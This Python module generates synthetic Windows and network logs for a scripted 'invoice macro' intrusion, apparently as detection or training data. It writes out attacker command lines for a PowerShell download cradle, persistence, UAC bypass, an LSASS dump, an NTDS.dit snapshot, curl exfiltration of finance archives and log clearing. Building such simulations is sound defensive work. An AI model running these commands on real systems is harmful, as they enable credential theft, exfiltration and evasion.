"""The invoice scenario: a macro in an invoice, and four hours later the company's finance data has left.

Each method is a step of the story (or two that cannot be told apart in time); invoice_story.py tells them.
"""

from __future__ import annotations

from sample_data.benign_desks import OFFICE_ROOT, PS_AGENT, Desk, Desks, lsass
from sample_data.benign_servers import Servers, encoded, replication, task
from sample_data.domain import (
    CMD,
    CONTROL,
    DC,
    DELIVERY,
    DROP,
    EVERYONE,
    FS1,
    HOSTS,
    MORE_ACCOUNTS,
    POWERSHELL,
    REYES,
    SID,
    SYSTEM,
    SYSTEM32,
    VICTIM,
    Process,
    Session,
    process,
)  # fmt: skip
from sample_data.invoice_story import STORY
from sample_data.network import Network
from sample_data.record import Recorder, Written
from sample_data.story import Story
from sample_data.windows import Windows
from sample_data.world import MILLI, MINUTE, SECOND, Day, Dice

_FOLDER = "C:\\Users\\anna.keller\\AppData\\Roaming\\OneDriveSync"
_BEACON_AGENT = "Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0)"
_CRADLE = f"IEX (New-Object Net.WebClient).DownloadString('http://{DELIVERY[0]}/a/stage.txt')"
_CMDLET_TRACE = (
    "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|C:\\Windows\\System32\\KERNELBASE.dll+2c13e|"
    "C:\\Windows\\SYSTEM32\\dbgcore.dll+6cdb|C:\\Windows\\SYSTEM32\\dbgcore.dll+e0c1|C:\\Windows\\System32\\comsvcs.dll+f7e2"
)


def invoice(seed: int) -> tuple[Story, Written]:
    day = Day(STORY.date)
    recorder = Recorder(day)

    def part(name: str) -> tuple[Windows, Network, Dice]:
        dice = Dice(seed, f"invoice/{name}")
        return Windows(recorder, dice), Network(recorder, dice, tagged=True, resolver=DC.ip), dice

    desks = Desks(day, *part("desks"))
    desks.run()
    Servers(day, *part("servers")).run()
    Attack(day, recorder, desks.desks[VICTIM], *part("attack")).run()
    return STORY, recorder.write()


class Attack:
    def __init__(
        self, day: Day, recorder: Recorder, desk: Desk, windows: Windows, network: Network, dice: Dice
    ) -> None:
        self.day, self.step, self.desk = day, recorder.step, desk
        self.windows, self.network, self.dice = windows, network, dice
        self.reyes = {host: Session(REYES.account, REYES.sid, hex(0x7A0000 + index), "0", "High")
                      for index, host in enumerate(HOSTS)}  # fmt: skip

    def run(self) -> None:
        word = self.open_invoice()
        shell = self.macro(word)
        self.persist(shell)
        self.beacon()
        self.look_around(shell)
        high = self.elevate(shell)
        self.blind_and_dump(high)
        self.spray(high)
        self.reach_out(high)
        remote = self.file_server()
        self.domain_controller()
        self.carry_off(remote)

    def open_invoice(self) -> Process:
        w, day = self.windows, self.day
        path = (f"{self.desk.home}AppData\\Local\\Microsoft\\Windows\\INetCache\\Content.Outlook\\K2J8Q1XZ\\"
                "Invoice_2026-0347.docm")  # fmt: skip
        with self.step("inv-01"):
            w.file(day.at("08:41:03.210"), self.desk.outlook, path)
            program = OFFICE_ROOT + "WINWORD.EXE"
            return w.start(day.at("08:41:06.871"), self.desk.outlook, program, f'"{program}" /n "{path}" /o ""',
                           directory=self.desk.home)  # fmt: skip

    def macro(self, word: Process) -> Process:
        w, n, day = self.windows, self.network, self.day
        with self.step("inv-02"):
            shell = w.start(day.at("08:42:11.402"), word, POWERSHELL, f"powershell.exe -nop -w hidden -enc {encoded(_CRADLE)}",
                            directory=self.desk.home)  # fmt: skip
        with self.step("inv-03"):
            w.script(day.at("08:42:12.377"), shell, _CRADLE)
        with self.step("inv-04"):
            start = day.at("08:42:12.611")
            n.lookup(start, shell.host.ip, *DELIVERY)
            w.resolve(start + 60 * MILLI, shell, *DELIVERY)
            port = w.connect(start + 90 * MILLI, shell, DELIVERY[1], 80, DELIVERY[0])
            n.web(start + 90 * MILLI, shell.host.ip, DELIVERY, "GET", "/a/stage.txt", PS_AGENT, received=18_412,
                  mime="text/plain", source_port=port)  # fmt: skip
            n.alert(start + 140 * MILLI, (shell.host.ip, port), (DELIVERY[1], 80), 1000101,
                    "LOCAL PowerShell user agent fetches script from external host", "A Network Trojan was detected", 1,
                    extra={"http": {"hostname": DELIVERY[0], "url": "/a/stage.txt", "http_user_agent": PS_AGENT,
                                    "http_method": "GET", "protocol": "HTTP/1.1", "status": 200, "length": 18_412}})  # fmt: skip
            w.file(start + 2 * SECOND, shell, f"{_FOLDER}\\sync.ps1")
        return shell

    def persist(self, shell: Process) -> None:
        w, day = self.windows, self.day
        run = f"powershell.exe -nop -w hidden -file {_FOLDER}\\sync.ps1"
        with self.step("inv-05"):
            w.registry(day.at("08:47:20.118"), shell,
                       f"HKU\\{VICTIM.sid}\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\OneDriveSync", run)  # fmt: skip
        with self.step("inv-06"):
            command = f'"powershell.exe -w hidden -file {_FOLDER}\\sync.ps1"'
            w.start(day.at("08:49:02.530"), shell, SYSTEM32 + "schtasks.exe",
                    f'"C:\\Windows\\system32\\schtasks.exe" /create /sc minute /mo 30 /tn OneDriveSync /tr {command} /f')  # fmt: skip
            w.by(day.at("08:49:02.702"), 4698, shell, {"TaskName": "\\OneDriveSync", "TaskContent": task(
                "powershell.exe", f"-w hidden -file {_FOLDER}\\sync.ps1", "<TimeTrigger><Interval>PT30M</Interval></TimeTrigger>")})  # fmt: skip
            for turn in range(1, 8):  # it runs every half hour until the machine is switched off
                time = day.at("08:49:02") + turn * 30 * MINUTE + self.dice.upto(900) * MILLI
                again = w.start(time, self.desk.svchost, POWERSHELL, f"powershell.exe -w hidden -file {_FOLDER}\\sync.ps1",
                                self.desk.session)  # fmt: skip
                w.stop(time + 20 * SECOND, again)

    def beacon(self) -> None:
        n, dice = self.network, self.dice
        host = self.desk.host.ip
        with self.step("inv-07"):
            time, last = self.day.at("08:52:00"), self.day.at("12:50")
            for turn in range(1000):
                if time > last:
                    break
                if turn % 10 == 0:
                    n.lookup(time - 300 * MILLI, host, *CONTROL)
                port = n.port()
                n.web(time, host, CONTROL, "POST", "/api/v2/sync", _BEACON_AGENT, sent=312 + dice.upto(9),
                      received=48 if dice.chance(0.93) else dice.between(300, 4_000), mime="application/octet-stream",
                      source_port=port)  # fmt: skip
                if turn % 60 == 59:
                    n.alert(time + SECOND, (host, port), (CONTROL[1], 80), 1000102, "LOCAL periodic POST beacon to uncategorised "
                            "host", "A Network Trojan was detected", 1, extra={"http": {
                                "hostname": CONTROL[0], "url": "/api/v2/sync", "http_user_agent": _BEACON_AGENT,
                                "http_method": "POST", "protocol": "HTTP/1.1", "status": 200, "length": 48}})  # fmt: skip
                time += MINUTE + dice.between(-5_000, 5_000) * MILLI

    def look_around(self, shell: Process) -> None:
        w, time = self.windows, self.day.at("09:05:11.040")
        with self.step("inv-08"):
            for name, command in (
                ("whoami.exe", "whoami /all"), ("systeminfo.exe", "systeminfo"),
                ("net.exe", 'net group "Domain Admins" /domain'), ("net1.exe", 'net1 group "Domain Admins" /domain'),
                ("nltest.exe", "nltest /dclist:alderbrook.example"), ("nltest.exe", "nltest /domain_trusts /all_trusts"),
                ("net.exe", "net view /domain:ALDERBROOK"), ("net.exe", 'net group "Domain Computers" /domain'),
            ):  # fmt: skip
                w.start(
                    time,
                    shell,
                    SYSTEM32 + name,
                    f'"{SYSTEM32.lower()}{name}" {command.partition(" ")[2]}'.strip(),
                )
                time += self.dice.between(7_000, 18_000) * MILLI

    def elevate(self, shell: Process) -> Process:
        w, day = self.windows, self.day
        high = Session(self.desk.session.account, self.desk.session.sid, "0x2f81aa", "1", "High")
        with self.step("inv-09"):
            key = f"HKU\\{VICTIM.sid}_Classes\\ms-settings\\Shell\\Open\\command\\"
            w.registry(day.at("09:14:01.310"), shell, key + "DelegateExecute", "(Empty)")
            w.registry(day.at("09:14:01.394"), shell, key + "(Default)", f"{POWERSHELL} -nop -w hidden")
            helper = w.start(
                day.at("09:14:03.020"),
                shell,
                SYSTEM32 + "fodhelper.exe",
                '"C:\\Windows\\System32\\fodhelper.exe"',
                high,
            )
            return w.start(day.at("09:14:03.655"), helper, POWERSHELL, f'"{POWERSHELL}" -nop -w hidden', high)

    def blind_and_dump(self, high: Process) -> None:
        w, day = self.windows, self.day
        with self.step("inv-10"):
            w.script(day.at("09:20:15.222"), high, "Add-MpPreference -ExclusionPath C:\\Users\\Public")
            defender = process(self.dice, high.host, "C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24010.12-0\\"
                               "MsMpEng.exe", SYSTEM, day.start)  # fmt: skip
            w.registry(day.at("09:20:15.870"), defender, "HKLM\\SOFTWARE\\Microsoft\\Windows Defender\\Exclusions\\Paths\\"
                       "C:\\Users\\Public", "DWORD (0x00000000)")  # fmt: skip
        with self.step("inv-11"):
            target = lsass(self.dice, high.host, day)
            dump = "C:\\Users\\Public\\Documents\\dbg.dmp"
            tool = w.start(day.at("09:34:40.005"), high, SYSTEM32 + "rundll32.exe",
                           f'"C:\\Windows\\System32\\rundll32.exe" C:\\Windows\\System32\\comsvcs.dll, MiniDump {target.pid} {dump} full')  # fmt: skip
            w.access(day.at("09:34:40.190"), tool, target, "0x1fffff", _CMDLET_TRACE)
            w.file(day.at("09:34:40.412"), tool, dump)

    def spray(self, high: Process) -> None:
        names = [person.name for person in EVERYONE if person is not VICTIM] + list(MORE_ACCOUNTS)
        time = self.day.at("09:50:04.100")
        with self.step("inv-12"):
            for index, name in enumerate(self.dice.some(names, 28)):
                self.windows.ticket(time, name, f"{SID}-{1300 + index}", high.host.ip, status="0x18")
                time += self.dice.between(6_000, 9_000) * MILLI

    def reach_out(self, high: Process) -> None:
        w, n, dice, day = self.windows, self.network, self.dice, self.day
        own = high.host
        with self.step("inv-13"):
            w.logon(day.at("10:06:40.880"), own, Session(high.session.account, high.session.sid, "0x31b0c4", "1", "High"), 9,
                    "::1", "Negotiate", elevated=True, outbound=REYES.name)  # fmt: skip
        with self.step("inv-14"):
            time = day.at("10:08:02")
            for host in [one for one in HOSTS if one is not own]:
                n.connection(time, own.ip, host.ip, 445, dice.between(2_000, 6_000), dice.between(2_000, 9_000),
                             dice.between(200, 900) * MILLI, "gssapi,ntlm,smb")  # fmt: skip
                w.logon(time + 30 * MILLI, host, self.reyes[host], 3, own.ip, "NTLM", own.name)
                w.share(time + 60 * MILLI, host, self.reyes[host], "ADMIN$", "\\??\\C:\\Windows", own.ip)
                time += dice.between(9_000, 15_000) * MILLI

    def file_server(self) -> Process:
        w, n, day, own = self.windows, self.network, self.day, self.desk.host
        session, start = self.reyes[FS1], day.at("10:15:30.500")
        with self.step("inv-13"):
            n.connection(
                start - 20 * MILLI,
                own.ip,
                FS1.ip,
                445,
                84_000,
                31_000,
                90 * SECOND,
                "gssapi,ntlm,smb,dce_rpc",
            )
            w.security(start - 10 * MILLI, DC, 4776, {"PackageName": "MICROSOFT_AUTHENTICATION_PACKAGE_V1_0",
                       "TargetUserName": REYES.name, "Workstation": own.name, "Status": "0x0"})  # fmt: skip
            w.logon(start, FS1, session, 3, own.ip, "NTLM", own.name, elevated=True)
        with self.step("inv-15"):
            payload = "powershell.exe -nop -w hidden -enc " + encoded(_CRADLE.replace("stage", "stage2"))
            w.by(day.at("10:17:04.040"), 4697, (FS1, session), {
                "ServiceName": "WinSyncSvc", "ServiceFileName": f"%COMSPEC% /Q /c start /b {payload}", "ServiceType": "0x10",
                "ServiceStartType": "3", "ServiceAccount": "LocalSystem"})  # fmt: skip
            services = process(self.dice, FS1, SYSTEM32 + "services.exe", SYSTEM, day.start)
            shell = w.start(
                day.at("10:17:04.330"),
                services,
                CMD,
                f"C:\\Windows\\system32\\cmd.exe /Q /c start /b {payload}",
            )
            remote = w.start(day.at("10:17:04.520"), shell, POWERSHELL, payload)
            w.script(day.at("10:17:05.411"), remote, _CRADLE.replace("stage", "stage2"))
            port = w.connect(day.at("10:17:05.720"), remote, DELIVERY[1], 80, DELIVERY[0])
            n.web(day.at("10:17:05.720"), FS1.ip, DELIVERY, "GET", "/a/stage2.txt", PS_AGENT, received=22_030,
                  mime="text/plain", source_port=port)  # fmt: skip
            return remote

    def domain_controller(self) -> None:
        w, n, day, own = self.windows, self.network, self.day, self.desk.host
        session, marker = self.reyes[DC], "1772534520.41"
        provider = process(self.dice, DC, SYSTEM32 + "wbem\\WmiPrvSE.exe", Session("NT AUTHORITY\\NETWORK SERVICE", "S-1-5-20",
                           "0x3e4", "0", "System"), day.at("10:41"))  # fmt: skip
        with self.step("inv-16"):
            n.connection(day.at("10:42:00.001"), own.ip, DC.ip, 135, 9_000, 7_000, 4 * SECOND, "dce_rpc")
            w.logon(day.at("10:42:00.100"), DC, session, 3, own.ip, "NTLM", own.name, elevated=True)
            for clock, command in (("10:42:01", "whoami"), ("10:43:30", "cd \\"), ("10:44:12", "dir C:\\Windows\\NTDS"),
                                   ("10:45:40", "net user adm.reyes /domain")):  # fmt: skip
                w.start(day.at(clock) + self.dice.upto(900) * MILLI, provider, CMD,
                        f"cmd.exe /Q /c {command} 1> \\\\127.0.0.1\\ADMIN$\\__{marker} 2>&1", session)  # fmt: skip
        with self.step("inv-17"):
            line = 'ntdsutil "ac i ntds" "ifm" "create full C:\\Windows\\Temp\\snap" q q'
            shell = w.start(day.at("10:47:10.044"), provider, CMD,
                            f"cmd.exe /Q /c {line} 1> \\\\127.0.0.1\\ADMIN$\\__{marker} 2>&1", session)  # fmt: skip
            tool = w.start(day.at("10:47:10.300"), shell, SYSTEM32 + "ntdsutil.exe", line)
            w.file(day.at("10:47:31.700"), tool, "C:\\Windows\\Temp\\snap\\Active Directory\\ntds.dit")
        with self.step("inv-18"):
            from_own = day.at("10:55:20.150")
            n.connection(from_own, own.ip, DC.ip, 49670, 31_000, 2_400_000, 7 * SECOND, "dce_rpc")
            for index, part in enumerate(
                ("1131f6aa-9c07-11d1-f79f-00c04fc2dcd2", "1131f6ad-9c07-11d1-f79f-00c04fc2dcd2") * 3
            ):
                w.by(from_own + index * 70 * MILLI, 4662, (DC, session), replication(
                    f"%%7688\r\n\t\t{{{part}}}\r\n\t{{19195a5b-6da0-11d0-afd3-00c04fd930c9}}\r\n"))  # fmt: skip

    def carry_off(self, remote: Process) -> None:
        w, n, day = self.windows, self.network, self.day
        with self.step("inv-19"):
            w.file(day.at("11:19:50.020"), remote, "C:\\Users\\Public\\7za.exe")
            packer = w.start(day.at("11:20:09.300"), remote, "C:\\Users\\Public\\7za.exe",
                             "C:\\Users\\Public\\7za.exe a -t7z -mhe=on -pKq7-vault-31 -v500m C:\\Users\\Public\\q1.7z D:\\Finance")  # fmt: skip
            for index in range(1, 5):
                w.file(
                    day.at("11:20:12") + index * 140 * SECOND, packer, f"C:\\Users\\Public\\q1.7z.{index:03d}"
                )
        with self.step("inv-20"):
            time = day.at("12:10:05.400")
            for index, size in enumerate((524_288_000, 524_288_000, 524_288_000, 371_409_216), 1):
                n.lookup(time - 200 * MILLI, FS1.ip, *DROP)
                tool = w.start(time - 300 * MILLI, remote, SYSTEM32 + "curl.exe",
                               f"curl.exe -k -T C:\\Users\\Public\\q1.7z.{index:03d} https://{DROP[0]}/u/")  # fmt: skip
                port = w.connect(time, tool, DROP[1], 443, DROP[0])
                n.connection(
                    time,
                    FS1.ip,
                    DROP[1],
                    443,
                    size + 60_000,
                    9_000 + 100 * index,
                    210 * SECOND,
                    "ssl",
                    source_port=port,
                )
                n.eve(
                    time + 40 * MILLI,
                    "tls",
                    (FS1.ip, port),
                    (DROP[1], 443),
                    {"tls": {"sni": DROP[0], "version": "TLS 1.2"}},
                )
                n.alert(time + 190 * SECOND, (FS1.ip, port), (DROP[1], 443), 1000103, "LOCAL outbound TLS upload above 300 MB",
                        "Potential Corporate Privacy Violation", 1, "tls")  # fmt: skip
                time += 4 * MINUTE + self.dice.upto(SECOND)
        with self.step("inv-21"):
            for clock, log in (("12:40:11.100", "System"), ("12:40:13.900", "Security")):
                w.start(
                    day.at(clock),
                    remote,
                    SYSTEM32 + "wevtutil.exe",
                    f'"C:\\Windows\\system32\\wevtutil.exe" cl {log}',
                )
            w.security(day.at("12:40:14.220"), FS1, 1102, {
                "SubjectUserSid": "S-1-5-18", "SubjectUserName": "SYSTEM", "SubjectDomainName": "NT AUTHORITY",
                "SubjectLogonId": "0x3e7"})  # fmt: skip
